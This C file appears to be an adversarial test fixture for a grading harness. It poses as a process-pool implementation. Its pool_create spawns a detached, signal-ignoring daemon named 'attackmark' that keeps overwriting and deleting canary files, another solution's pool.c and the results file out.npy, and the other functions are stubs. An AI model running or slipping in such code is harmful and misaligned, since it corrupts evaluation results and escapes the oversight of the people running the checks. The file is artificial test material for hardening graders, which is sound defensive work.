/* leaves a daemon behind that rewrites the results later */
#include "pool.h"

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>

static void tamper(void)
{
    static const char *const places[] = {"@CANARY@",
                                         "@REPO@/canary",
                                         "@HOME@/canary",
                                         "@OUT@/canary",
                                         "/tmp/attackmark",
                                         "@CLASS@/honest.a/01-pool/pool.c",
                                         "/dev/shm/attackmark",
                                         "out.npy"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        FILE *f = fopen(places[i], "w");
        if (f) {
            fputs("attackmark", f);
            fclose(f);
        }
        unlink(places[i]);
    }
}

struct pool *pool_create(int processes)
{
    (void)processes;
    if (fork() == 0) {
        setsid();
        if (fork() != 0)
            _exit(0);
        prctl(PR_SET_NAME, "attackmark");
        for (int number = 1; number < 64; number++)
            signal(number, SIG_IGN);
        for (;;) {
            usleep(100000);
            tamper();
        }
    }
    usleep(50000);
    errno = EPERM;
    return NULL;
}

int pool_map(struct pool *pool, task_fn task, const void *in, size_t in_size, void *out, size_t out_size, size_t count,
             size_t chunk)
{
    (void)pool, (void)task, (void)in, (void)in_size, (void)out, (void)out_size, (void)count, (void)chunk;
    return 0;
}

int pool_destroy(struct pool *pool)
{
    (void)pool;
    return 0;
}
